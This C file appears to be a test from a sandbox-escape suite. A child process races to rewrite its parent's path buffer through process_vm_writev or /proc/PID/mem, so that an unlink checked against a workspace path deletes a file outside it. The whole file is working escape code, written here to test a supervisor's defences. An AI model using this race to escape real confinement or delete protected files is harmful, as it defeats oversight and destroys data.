/* mem-race MODE: the caller (this process) loops: set its path buffer to a
 * workspace path, unlink(buffer). Its child, the attacker, keeps rewriting
 * that buffer in the caller with an outside path, so a check made at the
 * syscall stop and the kernel's later copy see different strings. MODE:
 *   vm-writev  the attacker uses process_vm_writev
 *   proc-mem   the attacker pwrite()s /proc/CALLER/mem
 * First one deterministic rewrite (the attacker writes once, then the
 * caller unlinks: natively this proves the primitive; supervised, the check
 * sees the outside path), then the race, bounded by ESC_TRIES. Held when the
 * primitive is refused or Landlock (the race-free boundary) stops it. */
#include <signal.h>
#include <stdint.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include "../esc.h"

static char buf[4096];

static int pipes[2][2];

/* The attacker waits for the caller's "go", does one write, says "done",
 * then keeps racing. */
static void wait_go(void)
{
	char c = 0;
	if (read(pipes[0][0], &c, 1) != 1)
		_exit(3);
}

static void say_done(void)
{
	if (write(pipes[1][1], "d", 1) != 1)
		_exit(3);
}

static int attacker_vm(pid_t caller, const char *evil)
{
	struct iovec local = { (void *)evil, strlen(evil) + 1 };
	struct iovec remote = { buf, strlen(evil) + 1 };
	wait_go();
	for (long i = 0;; i++) {
		if (process_vm_writev(caller, &local, 1, &remote, 1, 0) < 0) {
			esc_log("process_vm_writev: %s", strerror(errno));
			say_done();
			return 1;
		}
		if (i == 0)
			say_done();
	}
}

static int attacker_mem(pid_t caller, const char *evil)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/%d/mem", caller);
	wait_go();
	int fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0) {
		/* The arena mounts /proc read-only: there the attack cannot be
		 * shown natively, and is held by the mount, not by txguard. */
		if (errno == EROFS)
			esc_log("n/a: /proc is mounted read-only here");
		esc_log("open %s O_RDWR: %s", path, strerror(errno));
		say_done();
		return 1;
	}
	for (long i = 0;; i++) {
		if (pwrite(fd, evil, strlen(evil) + 1, (off_t)(uintptr_t)buf) < 0) {
			esc_log("pwrite /proc/PID/mem: %s", strerror(errno));
			say_done();
			return 1;
		}
		if (i == 0)
			say_done();
	}
}

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "";
	bool vm = strcmp(mode, "vm-writev") == 0;
	esc_start(vm ? "vm-writev" : "proc-mem");
	char *victim = esc_out("victim");
	char *good = esc_ws("race-file");
	pid_t caller = getpid();
	if (pipe(pipes[0]) < 0 || pipe(pipes[1]) < 0)
		return 3;
	strcpy(buf, good);
	pid_t att = fork();
	if (att == 0)
		_exit(vm ? attacker_vm(caller, victim) : attacker_mem(caller, victim));
	char c;
	if (write(pipes[0][1], "g", 1) != 1 || read(pipes[1][0], &c, 1) != 1)
		return 3;
	if (strcmp(buf, good) != 0)
		esc_log("primitive works: the attacker rewrote the caller's buffer");
	unlink(buf);
	long n = esc_tries();
	long i;
	for (i = 0; i < n && esc_intact(victim); i++) {
		strcpy(buf, good);
		unlink(buf);
		if (i % 64 == 0 && waitpid(att, NULL, WNOHANG) == att) {
			att = 0;
			break;
		}
	}
	esc_log("%ld tries", i);
	if (att > 0) {
		kill(att, SIGKILL);
		waitpid(att, NULL, 0);
	}
	return esc_verdict_victim(victim);
}
